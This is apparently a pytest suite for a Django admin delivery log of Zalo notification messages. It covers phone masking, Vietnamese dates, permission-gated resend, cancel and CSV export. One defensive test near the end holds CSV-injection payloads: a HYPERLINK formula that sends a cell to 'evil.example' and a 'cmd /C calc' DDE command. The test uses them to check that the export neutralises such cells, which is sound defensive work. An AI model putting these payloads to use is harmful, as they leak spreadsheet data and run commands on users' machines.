"""The delivery log: what the list and the detail page show (and hide), the operators'
actions (resend, cancel, export) with every refusal, Vietnamese dates, and the attempt
payloads the worker keeps."""

from __future__ import annotations

import datetime as dt

import pytest
from django.contrib.admin.models import LogEntry
from django.contrib.auth.models import Group, Permission, User
from django.urls import reverse
from django.utils import timezone, translation

from tests.factories import BindingFactory, MessageFactory, OrderFactory
from tests.signal_capture import listening
from tests.users import staff_user
from zns_notify import signals
from zns_notify.log import actions as log_actions
from zns_notify.models import Message, MessageEvent, WebhookEvent

pytestmark = pytest.mark.django_db

LIST = reverse("admin:zns_notify_message_changelist")
EXPORT = reverse("admin:zns_notify_message_export")


def change(pk: int) -> str:
    return reverse("admin:zns_notify_message_change", args=[pk])


@pytest.fixture
def staff(client):
    """login(*codenames) -> a logged-in staff user holding exactly these permissions."""
    return lambda *codenames: staff_user(*codenames, client=client)


def shown(response) -> list[str]:
    return [str(m) for m in response.context["messages"]] if response.context else []


def follow(client, url, data=None):
    return client.post(url, data or {}, follow=True)


ANSWER = {"error": 0, "message": "Success", "data": {"msg_id": "m1"}}


def attempt(message: Message, **payload) -> MessageEvent:
    body = {
        "phone": message.phone,
        "template_id": message.zalo_template_id,
        "template_data": {"contact": "0912345678"},
        "tracking_id": message.idempotency_key,
        **payload,
    }
    return MessageEvent.objects.create(
        message=message,
        kind="attempt",
        status="sent",
        detail="Accepted by Zalo as m1.",
        payload={"request": {"path": "/message/template", "body": body}, "answer": ANSWER},
    )


# -- the list -------------------------------------------------------------------------------


def test_the_list_shows_badges_template_order_link_error_and_masked_phone(client, staff):
    staff("view_message")
    order = OrderFactory()
    binding = BindingFactory()
    MessageFactory(
        template=binding.template,
        order_pk=str(order.pk),
        order_ref=order.code,
        status="failed",
        error_code=-118,
        error_category="recipient",
        error_message="Zalo account not existed",
    )
    MessageFactory(
        template=binding.template,
        order_type="api.order",
        order_pk="x-9",
        order_ref="EXT-9",
        phone="84900000009",
    )
    MessageFactory(
        template=binding.template, order_type="nowhere.model", order_pk="1", order_ref="NOPE-1"
    )
    html = client.get(LIST).content.decode()
    assert 'class="zns-badge zns-badge--failed">Failed<' in html
    assert f"{binding.template.name} · {binding.template.template_id}" in html
    assert f'<a href="/admin/shop/order/{order.pk}/change/">{order.code}</a>' in html
    assert "EXT-9" in html and "/admin/api/" not in html  # no link for api.order
    assert "NOPE-1" in html and "NOPE-1</a>" not in html  # nor for a model the admin lacks
    assert "recipient" in html and "-118" in html and "Zalo account not existed" in html
    assert "********009" in html and "84900000009" not in html


def test_the_list_query_count_does_not_grow_with_rows(client, staff, django_assert_max_num_queries):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    staff("view_message", "view_full_phone")
    order = OrderFactory()
    MessageFactory(order_pk=str(order.pk), status="delivered")
    with CaptureQueriesContext(connection) as one:
        client.get(LIST)
    original = MessageFactory(status="failed")
    for _ in range(30):
        MessageFactory(
            order_pk=str(order.pk),
            status="delivered",
            resent_from=original,
            error_category="recipient",
            error_code=-118,
        )
    with CaptureQueriesContext(connection) as many:
        assert client.get(LIST).status_code == 200
    assert len(many) <= len(one)


def test_a_copy_names_its_original_in_the_list(client, staff):
    staff("view_message")
    original = MessageFactory(status="failed")
    MessageFactory(resent_from=original)
    html = client.get(LIST).content.decode()
    assert f'href="{change(original.pk)}">↻ copy of #{original.pk}</a>' in html


def test_dates_are_in_vietnamese_format_when_the_language_is_vi(client, staff):
    staff("view_message")
    created = timezone.make_aware(dt.datetime(2026, 11, 21, 14, 5))
    message = MessageFactory(
        created_at=created, status="delivered", delivered_at=created + dt.timedelta(minutes=1)
    )
    html = client.get(LIST, HTTP_ACCEPT_LANGUAGE="vi").content.decode()
    assert "14:05 21-11-2026" in html
    assert 'đã nhận <span class="zns-when">14:06 21-11-2026</span>' in html
    detail = client.get(change(message.pk), HTTP_ACCEPT_LANGUAGE="vi").content.decode()
    assert "14:05 Ngày 21 tháng 11 năm 2026" in detail
    with translation.override("en"):
        english = client.get(LIST, HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert "11/21/2026 2:05 p.m." in english


def test_error_categories_are_named_in_the_operators_language(client, staff):
    # An operator reads "Người nhận", not the stored code "recipient", in the column and
    # in the filter; the code stays in the filter's URL.
    staff("view_message")
    MessageFactory(status="failed", error_code=-118, error_category="recipient")
    MessageFactory(status="cancelled", error_category="operator")
    html = client.get(LIST, HTTP_ACCEPT_LANGUAGE="vi").content.decode()
    assert '<span class="zns-category" data-category="recipient">Người nhận</span>' in html
    assert '<span class="zns-category" data-category="operator">Nhân viên đã hủy</span>' in html
    assert "?error_category__exact=recipient" in html
    assert 'title="Lỗi tạm thời"' in html or ">Lỗi tạm thời<" in html  # the filter's "retry"
    assert ">recipient<" not in html and ">operator<" not in html
    with translation.override("en"):
        english = client.get(LIST, HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert '<span class="zns-category" data-category="recipient">Recipient</span>' in english


def test_the_event_filter_names_events_in_the_operators_language(client, staff):
    staff("view_message")
    html = client.get(LIST, HTTP_ACCEPT_LANGUAGE="vi").content.decode()
    assert "order_created — Đơn hàng mới" in html and "order_paid — Đã thanh toán" in html
    assert "Order created" not in html
    with translation.override("en"):
        english = client.get(LIST, HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert "order_created — Order created" in english


@pytest.mark.parametrize(
    "lookup",
    [
        {"phone": "84912345678"},
        {"phone__startswith": "8491234"},
        {"phone__contains": "345"},
        {"params__contact": "0912345678"},
        {"params__icontains": "0912"},
    ],
)
def test_staff_without_view_full_phone_cannot_filter_by_phone_in_the_url(client, staff, lookup):
    # The admin lets any local field be filtered from the URL: phone__startswith, one digit
    # at a time, would spell out every masked number (the list shows the last three).
    staff("view_message")
    MessageFactory(phone="84912345678", params={"contact": "0912345678"})
    MessageFactory(phone="84987654321", params={"contact": "0987654321"})
    for url in (LIST, EXPORT):
        response = client.get(url, lookup)
        assert response.status_code == 400, (url, lookup)
        assert not getattr(response, "streaming", False)


def test_staff_with_view_full_phone_may_filter_by_phone_in_the_url(client, staff):
    staff("view_message", "view_full_phone")
    MessageFactory(phone="84912345678", order_ref="MINE")
    MessageFactory(phone="84987654321", order_ref="OTHER")
    html = client.get(LIST, {"phone__startswith": "8491234"}).content.decode()
    assert "MINE" in html and "OTHER" not in html


# -- the detail page --------------------------------------------------------------------------


def test_the_timeline_is_whole_in_order_and_masks_the_phone(client, staff):
    staff("view_message")
    now = timezone.now()
    message = MessageFactory(
        status="delivered",
        msg_id="m1",
        created_at=now - dt.timedelta(minutes=5),
        delivered_at=now - dt.timedelta(minutes=1),
    )
    MessageEvent.objects.create(
        message=message,
        kind="policy",
        status="queued",
        at=now - dt.timedelta(minutes=4),
        detail="Deferred: quiet hours",
    )
    event = attempt(message, access_token="leaked-token")
    event.at = now - dt.timedelta(minutes=3)
    event.save()
    MessageEvent.objects.create(
        message=message,
        kind="receipt",
        status="delivered",
        at=now - dt.timedelta(seconds=30),
        detail="user_received_message m1",
    )
    WebhookEvent.objects.create(
        event_name="user_received_message",
        dedup_key="d1",
        subject="m1",
        outcome="applied",
        received_at=now - dt.timedelta(seconds=30),
        body='{"recipient": {"id": "84912345678"}, "message": {"msg_id": "m1"}}',
    )
    WebhookEvent.objects.create(  # a rating Zalo sent with the tracking id only
        event_name="user_feedback",
        dedup_key="d2",
        subject=message.idempotency_key,
        outcome="applied",
        received_at=now,
        body='{"message": {"rate": 5}}',
    )
    html = client.get(change(message.pk)).content.decode()
    assert html.count("zns-entry--webhook") == 2
    order = [
        html.index(marker)
        for marker in (
            "zns-entry--enqueued",
            "zns-entry--policy",
            "zns-entry--attempt",
            "zns-entry--delivered",
            "zns-entry--receipt",
            "zns-entry--webhook",
        )
    ]
    assert order == sorted(order)
    assert "Request to Zalo" in html and "&quot;msg_id&quot;: &quot;m1&quot;" in html
    assert "leaked-token" not in html and "[removed]" in html
    assert "84912345678" not in html and "0912345678" not in html
    assert "********678" in html and "*******678" in html


def test_a_hashed_send_hides_the_phones_hash_from_staff_without_view_full_phone(
    client, staff, settings
):
    # ZNS_NOTIFY HASH_PHONE sends SHA-256(phone) instead of the number: Vietnamese mobile
    # numbers are few enough (~10^9) to recover one from its hash in seconds, so the hash
    # is the number to whoever may not see it.
    from zns_notify.zalo.client import ZaloClient, hash_phone

    staff("view_message")
    message = MessageFactory(status="sent")
    path, body = ZaloClient.send_template_request(
        phone=message.phone,
        template_id=message.zalo_template_id,
        data=message.params,
        tracking_id=message.idempotency_key,
        hashed=True,
    )
    MessageEvent.objects.create(
        message=message,
        kind="attempt",
        status="sent",
        payload={
            "request": {"path": path, "body": body},
            "answer": {"error": -108, "message": f"no user for {hash_phone(message.phone)}"},
        },
    )
    digest = hash_phone(message.phone)
    html = client.get(change(message.pk)).content.decode()
    assert "hash_phone" in html and digest not in html
    assert digest[:12] not in html  # not even a recognisable part of it


def test_staff_with_view_full_phone_see_the_number_in_the_payload(client, staff):
    staff("view_message", "view_full_phone")
    message = MessageFactory()
    attempt(message)
    html = client.get(change(message.pk)).content.decode()
    assert "&quot;phone&quot;: &quot;84912345678&quot;" in html


def test_the_detail_page_renders_in_a_bounded_number_of_queries(
    client, staff, django_assert_max_num_queries
):
    staff("view_message")
    message = MessageFactory(msg_id="m1")
    for _ in range(20):
        attempt(message)
    with django_assert_max_num_queries(14):
        assert client.get(change(message.pk)).status_code == 200


def test_webhooks_and_ratings_add_no_query_per_entry(client, staff):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from zns_notify.models import MessageFeedback

    staff("view_message")
    message = MessageFactory(msg_id="m1", status="delivered")
    attempt(message)

    def page_queries() -> int:
        with CaptureQueriesContext(connection) as seen:
            assert client.get(change(message.pk)).status_code == 200
        return len(seen)

    page_queries()  # the first view fills per-process caches (content types)
    few = page_queries()
    for n in range(40):
        WebhookEvent.objects.create(
            event_name="user_received_message" if n % 2 else "user_feedback",
            dedup_key=f"d{n}",
            subject="m1" if n % 3 else message.idempotency_key,
            outcome="applied",
            received_at=timezone.now(),
            body='{"recipient": {"id": "84912345678"}}',
        )
        MessageFeedback.objects.create(
            message=message, msg_id="m1", rate=5, note="tốt", received_at=timezone.now()
        )
        attempt(message)
    assert page_queries() == few


# -- resend -------------------------------------------------------------------------------------


def test_resend_creates_a_linked_audited_copy_with_a_fresh_tracking_id(client, staff):
    user = staff("view_message", "resend_message")
    original = MessageFactory(
        status="failed", error_code=-118, error_category="recipient", attempts=2
    )
    response = follow(client, reverse("admin:zns_notify_message_resend", args=[original.pk]))
    copy = Message.objects.exclude(pk=original.pk).get()
    assert response.redirect_chain[-1][0] == change(copy.pk)
    assert f"Message #{original.pk} was resent as message #{copy.pk}." in shown(response)
    assert copy.resent_from_id == original.pk
    assert (copy.status, copy.attempts, copy.error_code, copy.msg_id) == ("queued", 0, None, "")
    assert (copy.phone, copy.params, copy.zalo_template_id) == (
        original.phone,
        original.params,
        original.zalo_template_id,
    )
    assert copy.idempotency_key != original.idempotency_key
    assert len(copy.idempotency_key) == 43 and copy.idempotency_key.startswith("zns")
    assert copy.idempotency_key.isalnum() and copy.idempotency_key.islower()
    notes = {e.message_id: e for e in MessageEvent.objects.filter(kind="note")}
    assert notes[copy.pk].detail == f"Resent by {user.username} from message #{original.pk}."
    assert notes[original.pk].detail == f"Resent by {user.username} as message #{copy.pk}."
    assert notes[original.pk].payload == {"user": user.username, "resent_as": copy.pk}
    entries = LogEntry.objects.filter(user=user).order_by("pk")
    assert [(e.object_id, e.action_flag) for e in entries] == [
        (str(copy.pk), 1),
        (str(original.pk), 2),
    ]
    # The original's page links to the copy.
    assert (
        f'href="{change(copy.pk)}">#{copy.pk}</a>'
        in client.get(change(original.pk)).content.decode()
    )


def test_resend_queues_the_copy_for_the_worker(client, staff, django_capture_on_commit_callbacks):
    from django_q.models import OrmQ

    staff("view_message", "resend_message")
    original = MessageFactory(status="delivered")
    with django_capture_on_commit_callbacks(execute=True):
        follow(client, reverse("admin:zns_notify_message_resend", args=[original.pk]))
    copy = Message.objects.get(resent_from=original)
    assert any(copy.idempotency_key in str(task.task["args"]) for task in OrmQ.objects.all())


def test_a_double_click_on_resend_queues_one_copy(client, staff):
    # Two clicks (or two operators) on the same failed message: the customer gets one copy.
    # Another resend is taken only once the copy's own outcome is final.
    staff("view_message", "resend_message")
    original = MessageFactory(status="failed")
    url = reverse("admin:zns_notify_message_resend", args=[original.pk])
    follow(client, url)
    response = follow(client, url)
    copy = Message.objects.get(resent_from=original)
    assert (
        f"Message #{original.pk} was already resent as message #{copy.pk}, which is "
        f"still Queued: wait for its outcome before resending it again."
    ) in shown(response)
    assert LogEntry.objects.count() == 2  # the first resend's two entries, nothing more
    Message.objects.filter(pk=copy.pk).update(status="failed")
    follow(client, url)
    assert Message.objects.filter(resent_from=original).count() == 2


def test_a_resend_of_a_resend_links_to_the_copy_it_repeats():
    user = User.objects.create_user("op", is_staff=True)
    original = MessageFactory(status="failed")
    first = log_actions.resend(original, user)
    with pytest.raises(log_actions.Refused):  # the copy itself is still under way
        log_actions.resend(first, user)
    Message.objects.filter(pk=first.pk).update(status="undelivered")
    first.refresh_from_db()
    second = log_actions.resend(first, user)
    assert (second.resent_from_id, second.phone, second.params) == (
        first.pk,
        original.phone,
        original.params,
    )
    assert len({original.idempotency_key, first.idempotency_key, second.idempotency_key}) == 3


def test_resend_reads_the_originals_status_again_before_copying():
    # The admin's action list was read a moment ago; a worker may have claimed the message
    # since (an ambiguous send re-queued, the sweeper): it is no longer final.
    user = User.objects.create_user("op", is_staff=True)
    original = MessageFactory(status="failed")
    Message.objects.filter(pk=original.pk).update(status="queued")
    with pytest.raises(log_actions.Refused, match="only a message whose outcome is final"):
        log_actions.resend(original, user)
    assert Message.objects.count() == 1


@pytest.mark.parametrize("status", ["queued", "sending", "sent"])
def test_resend_refuses_a_message_whose_outcome_is_not_final(client, staff, status):
    staff("view_message", "resend_message")
    message = MessageFactory(status=status)
    response = follow(client, reverse("admin:zns_notify_message_resend", args=[message.pk]))
    assert any("only a message whose outcome is final" in m for m in shown(response))
    assert Message.objects.count() == 1 and not LogEntry.objects.exists()


def test_resend_refuses_a_message_without_a_phone(client, staff):
    staff("view_message", "resend_message")
    message = MessageFactory(status="skipped", phone="")
    response = follow(client, reverse("admin:zns_notify_message_resend", args=[message.pk]))
    assert f"Message #{message.pk} has no phone number to send to." in shown(response)
    assert Message.objects.count() == 1


def test_resend_needs_its_permission(client, staff):
    staff("view_message")
    message = MessageFactory(status="failed")
    response = follow(client, reverse("admin:zns_notify_message_resend", args=[message.pk]))
    assert any("“Can resend messages”" in m for m in shown(response))
    assert Message.objects.count() == 1
    assert 'name="resend"' not in client.get(change(message.pk)).content.decode()
    # The action is not offered, and a forged one says what is missing.
    assert "resend_selected" not in client.get(LIST).content.decode()
    response = client.post(
        LIST, {"action": "resend_selected", "_selected_action": [message.pk]}, follow=True
    )
    assert any("zns_notify.resend_message" in m for m in shown(response))
    assert Message.objects.count() == 1


def test_resend_is_post_only(client, staff):
    staff("view_message", "resend_message")
    message = MessageFactory(status="failed")
    assert (
        client.get(reverse("admin:zns_notify_message_resend", args=[message.pk])).status_code == 405
    )


def test_the_resend_action_resends_final_ones_and_names_the_others(client, staff):
    staff("view_message", "resend_message")
    failed = MessageFactory(status="failed")
    waiting = MessageFactory(status="queued")
    response = client.post(
        LIST,
        {"action": "resend_selected", "_selected_action": [failed.pk, waiting.pk]},
        follow=True,
    )
    texts = shown(response)
    assert "1 message was resent." in texts
    assert any(f"Message #{waiting.pk} is Queued" in t for t in texts)
    assert Message.objects.filter(resent_from=failed).count() == 1
    assert not Message.objects.filter(resent_from=waiting).exists()


def test_the_resend_action_refuses_too_many_at_once(client, staff, monkeypatch):
    staff("view_message", "resend_message")
    monkeypatch.setattr(log_actions, "MAX_RESEND", 2)
    pks = [MessageFactory(status="failed").pk for _ in range(3)]
    response = client.post(
        LIST, {"action": "resend_selected", "_selected_action": pks}, follow=True
    )
    assert "Resend at most 2 messages at a time; nothing was resent." in shown(response)
    assert Message.objects.count() == 3


def test_an_action_with_nothing_selected_says_so(client, staff):
    staff("view_message", "resend_message", "cancel_message")
    MessageFactory(status="failed")
    for action in ("resend_selected", "cancel_selected", "export_selected"):
        response = client.post(LIST, {"action": action, "index": 0}, follow=True)
        assert any("Items must be selected" in m for m in shown(response)), action
    assert Message.objects.count() == 1


# -- cancel ---------------------------------------------------------------------------------


def test_cancel_stops_a_waiting_message_with_a_note_an_audit_and_the_signal(
    client, staff, django_capture_on_commit_callbacks
):
    user = staff("view_message", "cancel_message")
    message = MessageFactory(
        status="queued",
        next_attempt_at=timezone.now() + dt.timedelta(hours=1),
        error_category="policy",
        error_message="Deferred: quiet hours",
    )
    with (
        listening(signals.message_skipped) as seen,
        django_capture_on_commit_callbacks(execute=True),
    ):
        response = follow(client, reverse("admin:zns_notify_message_cancel", args=[message.pk]))
    assert f"Message #{message.pk} was cancelled." in shown(response)
    message.refresh_from_db()
    assert (message.status, message.error_category, message.next_attempt_at) == (
        "cancelled",
        "operator",
        None,
    )
    assert message.error_message == f"Cancelled by {user.username}."
    [(signal, kwargs)] = seen
    assert signal is signals.message_skipped
    assert (kwargs["rule"], kwargs["message"].pk) == ("operator", message.pk)
    note = MessageEvent.objects.get(message=message)
    assert (note.kind, note.status, note.payload["user"]) == ("note", "cancelled", user.username)
    assert LogEntry.objects.get(user=user).object_id == str(message.pk)


@pytest.mark.parametrize("status", ["sending", "sent", "delivered", "failed"])
def test_cancel_refuses_a_message_that_is_not_waiting(client, staff, status):
    staff("view_message", "cancel_message")
    message = MessageFactory(status=status)
    with listening(signals.message_skipped) as seen:
        response = follow(client, reverse("admin:zns_notify_message_cancel", args=[message.pk]))
    assert any("only a message still waiting to be sent" in m for m in shown(response))
    message.refresh_from_db()
    assert message.status == status and not seen


def test_cancel_never_overrides_a_workers_claim():
    """The worker claimed the row between the operator's read and the UPDATE."""
    message = MessageFactory(status="queued")
    Message.objects.filter(pk=message.pk).update(status="sending", attempts=1)
    assert message.status == "queued"  # the operator's stale copy
    with listening(signals.message_skipped) as seen:
        assert log_actions.cancel(message, None) is False
    assert Message.objects.get(pk=message.pk).status == "sending"
    assert not MessageEvent.objects.exists() and not seen


def test_cancel_needs_its_permission(client, staff):
    staff("view_message")
    message = MessageFactory(status="queued")
    response = follow(client, reverse("admin:zns_notify_message_cancel", args=[message.pk]))
    assert any("“Can cancel waiting messages”" in m for m in shown(response))
    response = client.post(
        LIST, {"action": "cancel_selected", "_selected_action": [message.pk]}, follow=True
    )
    assert any("zns_notify.cancel_message" in m for m in shown(response))
    assert Message.objects.get().status == "queued"


def test_resend_and_cancel_need_the_view_permission_too_as_in_the_api(client, staff):
    # docs/permissions.md: a user cannot do through the admin what the API refuses; the API
    # asks for view_message besides resend_message / cancel_message.
    staff("resend_message", "cancel_message")
    final = MessageFactory(status="failed")
    waiting = MessageFactory(status="queued")
    for name, message in (("resend", final), ("cancel", waiting)):
        response = follow(client, reverse(f"admin:zns_notify_message_{name}", args=[message.pk]))
        assert response.redirect_chain[-1][0] == reverse("admin:index"), name
        assert any("permission" in m for m in shown(response)), name
        # Nor does the answer tell whether a message with that id exists.
        missing = client.post(reverse(f"admin:zns_notify_message_{name}", args=[999999]))
        assert missing.status_code == 302 and missing.url == reverse("admin:index"), name
    assert Message.objects.count() == 2 and Message.objects.get(pk=waiting.pk).status == "queued"
    assert not LogEntry.objects.exists()


def test_the_cancel_action_cancels_the_waiting_ones_only(client, staff):
    staff("view_message", "cancel_message")
    waiting = MessageFactory(status="queued")
    sending = MessageFactory(status="sending")
    response = client.post(
        LIST,
        {"action": "cancel_selected", "_selected_action": [waiting.pk, sending.pk]},
        follow=True,
    )
    assert "1 message was cancelled." in shown(response)
    assert Message.objects.get(pk=waiting.pk).status == "cancelled"
    assert Message.objects.get(pk=sending.pk).status == "sending"
    response = client.post(
        LIST, {"action": "cancel_selected", "_selected_action": [sending.pk]}, follow=True
    )
    assert any(m.startswith("Nothing was cancelled") for m in shown(response))


# -- export ---------------------------------------------------------------------------------


def read_csv(response) -> list[list[str]]:
    import csv
    import io

    raw = b"".join(response.streaming_content)
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


def test_export_streams_the_filtered_list_with_masked_phones(client, staff):
    staff("view_message")
    for n in range(5):
        MessageFactory(
            status="failed",
            phone=f"8491234500{n}",
            order_ref=f"DH{n}",
            params={"customer_name": "Nguyễn Thị Lan"},
        )
    MessageFactory(status="delivered", order_ref="OTHER")
    response = client.get(EXPORT, {"status__exact": "failed"})
    assert response.streaming and response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="zns-messages-')
    header, *rows = read_csv(response)
    assert header[:4] == ["id", "created_at", "status", "event"]
    assert [r[header.index("order_ref")] for r in rows] == [f"DH{n}" for n in range(4, -1, -1)]
    assert {r[header.index("phone")] for r in rows} == {f"********00{n}" for n in range(5)}
    assert all(r[header.index("template_name")] == "Xác nhận đơn hàng" for r in rows)


def test_export_pages_by_keyset_through_ties_without_losing_a_row(monkeypatch):
    from zns_notify.log import export as log_export

    same = timezone.now()
    pks = sorted(
        (
            MessageFactory(created_at=same if n % 2 else same - dt.timedelta(seconds=n)).pk
            for n in range(11)
        ),
        reverse=True,
    )
    rows = list(log_export.keyset_rows(Message.objects.all(), page=3))
    assert sorted(r[0] for r in rows) == sorted(pks) and len(rows) == 11
    assert rows == sorted(rows, key=lambda r: (r[1], r[0]), reverse=True)


def test_export_shows_full_phones_to_staff_allowed_to_see_them(client, staff):
    staff("view_message", "view_full_phone")
    MessageFactory(phone="84912345678")
    header, row = read_csv(client.get(EXPORT))
    assert row[header.index("phone")] == "84912345678"


def test_export_of_the_selected_rows(client, staff):
    staff("view_message")
    chosen = MessageFactory(order_ref="CHOSEN")
    MessageFactory(order_ref="OTHER")
    response = client.post(LIST, {"action": "export_selected", "_selected_action": [chosen.pk]})
    header, *rows = read_csv(response)
    assert [r[header.index("order_ref")] for r in rows] == ["CHOSEN"]


def test_export_needs_the_view_permission(client, staff):
    staff("view_template")
    MessageFactory()
    response = client.get(EXPORT, follow=True)
    assert not getattr(response, "streaming", False)
    assert response.redirect_chain[-1][0] == reverse("admin:index")
    assert "You need the permission to view the message log to export it." in shown(response)


def test_resend_and_cancel_of_an_id_that_is_not_one_are_404(client, staff):
    staff("view_message", "resend_message", "cancel_message")
    for name in ("resend", "cancel"):
        for pk in ("999999", "abc"):
            url = reverse(f"admin:zns_notify_message_{name}", args=[pk])
            assert client.post(url).status_code == 404, (name, pk)


def test_export_refuses_invalid_filters(client, staff):
    staff("view_message")
    response = client.get(EXPORT, {"created_at__gte": "not-a-date"}, follow=True)
    assert "These filters are not valid; nothing was exported." in shown(response)


# -- permissions --------------------------------------------------------------------------------


def test_connecting_the_oa_needs_the_dedicated_permission():
    from zns_notify.account.oauth import can_connect

    user = User.objects.create_user("editor", is_staff=True)
    user.user_permissions.add(Permission.objects.get(codename="change_zaloaccount"))
    assert not can_connect(User.objects.get(pk=user.pk))
    user.user_permissions.add(Permission.objects.get(codename="connect_zaloaccount"))
    assert can_connect(User.objects.get(pk=user.pk))


def test_the_migration_gives_connect_to_whoever_could_change_the_account():
    import importlib
    from types import SimpleNamespace

    from django.apps import apps
    from django.db import connection

    migration = importlib.import_module("zns_notify.migrations.0015_delivery_log")
    change = Permission.objects.get(codename="change_zaloaccount")
    Permission.objects.filter(codename="connect_zaloaccount").delete()
    user = User.objects.create_user("old-admin", is_staff=True)
    user.user_permissions.add(change)
    group = Group.objects.create(name="OA admins")
    group.permissions.add(change)
    bystander = User.objects.create_user("bystander", is_staff=True)
    # The function reads only the editor's connection (SQLite refuses a real schema editor
    # inside the test's transaction).
    migration.grant_connect_to_account_editors(apps, SimpleNamespace(connection=connection))
    connect = Permission.objects.get(codename="connect_zaloaccount")
    assert list(user.user_permissions.filter(pk=connect.pk)) == [connect]
    assert list(group.permissions.filter(pk=connect.pk)) == [connect]
    assert not bystander.user_permissions.exists()


def test_the_groups_command_creates_the_suggested_groups():
    from django.core.management import call_command

    call_command("zns_groups", verbosity=0)
    call_command("zns_groups", verbosity=0)  # twice: the same groups, not duplicates
    operators = set(
        Group.objects.get(name="ZNS operators").permissions.values_list("codename", flat=True)
    )
    managers = set(
        Group.objects.get(name="ZNS managers").permissions.values_list("codename", flat=True)
    )
    assert {"view_message", "resend_message", "cancel_message"} <= operators
    assert "view_full_phone" not in operators and "connect_zaloaccount" not in operators
    assert {
        "view_full_phone",
        "change_binding",
        "add_binding",
        "delete_binding",
        "connect_zaloaccount",
    } <= managers
    assert operators <= managers


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(client, staff, start):
    # An order reference comes from the shop's customers, an error from Zalo: a cell starting
    # with one of these is a formula to Excel/LibreOffice (CSV injection) unless quoted.
    staff("view_message")
    evil = f'{start}HYPERLINK("http://evil.example/?"&A1,"x")'
    MessageFactory(
        order_ref=evil,
        status="failed",
        error_code=-124,
        error_category="recipient",
        error_message=f"{start}cmd|' /C calc'!A0",
    )
    header, row = read_csv(client.get(EXPORT))
    assert row[header.index("order_ref")] == "'" + evil
    assert row[header.index("reason")] == f"'{start}cmd|' /C calc'!A0"
    # Numbers stay numbers: a Zalo error code is negative and must not be quoted.
    assert row[header.index("error_code")] == "-124"


def test_a_resend_of_a_journey_message_goes_under_the_orders_journey():
    user = User.objects.create_user("op", is_staff=True)
    original = MessageFactory(status="failed", journey_type="token_logistics_7")

    copy = log_actions.resend(original, user)

    assert copy.journey_type == "token_logistics_7"
